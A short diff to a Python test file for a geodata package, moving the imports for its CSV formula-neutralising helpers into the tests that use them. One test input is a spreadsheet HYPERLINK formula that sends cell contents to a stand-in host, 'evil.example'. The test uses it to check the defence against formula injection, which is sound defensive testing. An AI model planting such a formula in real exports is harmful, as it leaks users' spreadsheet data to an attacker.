@@ -27,7 +27,6 @@ from ward_geo import settings
 from ward_geo.errors import InputError
 from ward_geo.io.readers import read_incidents, validate_incidents
 from ward_geo.io.validation import ValidationReport
-from ward_geo.io.writers import csv_safe_frame, neutralise_formula
 
 VENV_BIN = Path(sys.executable).parent
 MARS_WKT = (
@@ -285,6 +284,8 @@ def test_ids_are_nfc_normalised_so_look_alikes_collide():
 
 # ---------------------------------------------------------------- formula injection
 def test_validation_report_csv_neutralises_formulas():
+    from ward_geo.io.writers import neutralise_formula
+
     report = ValidationReport(source="x")
     for row, value in enumerate(['=HYPERLINK("http://evil.example/?d="&A1,"x")', "=1+1", "-2+3", "+1", "@SUM(A1)",
                                  "\tx", "plain", "-12.5"], start=1):
@@ -298,6 +299,8 @@ def test_validation_report_csv_neutralises_formulas():
 
 
 def test_csv_safe_frame_keeps_numbers_and_prefixes_text():
+    from ward_geo.io.writers import csv_safe_frame, neutralise_formula
+
     frame = pd.DataFrame({"description": ["=1+1", "ok", None], "lon": [-105.5, 1.0, 2.0]})
     out = csv_safe_frame(frame)
     assert list(out["description"])[:2] == ["'=1+1", "ok"] and pd.isna(out["description"].iloc[2])
